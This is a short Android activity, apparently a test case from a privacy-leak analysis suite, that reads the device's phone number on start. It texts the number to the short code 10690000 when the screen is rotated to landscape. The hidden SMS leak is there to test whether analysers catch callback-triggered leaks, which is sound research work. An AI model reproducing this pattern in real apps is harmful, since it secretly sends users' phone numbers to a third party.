package cn.privlens.suite.orientation_not_handled;

import android.app.Activity;
import android.content.res.Configuration;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private String line;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        line = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number();
        setTitle("turn me");
    }

    @Override
    public void onConfigurationChanged(Configuration changed) {
        super.onConfigurationChanged(changed);
        if (changed.orientation == Configuration.ORIENTATION_LANDSCAPE) {
            SmsManager.getDefault().sendTextMessage("10690000", null, "turned " + line, null, null);
        }
    }
}
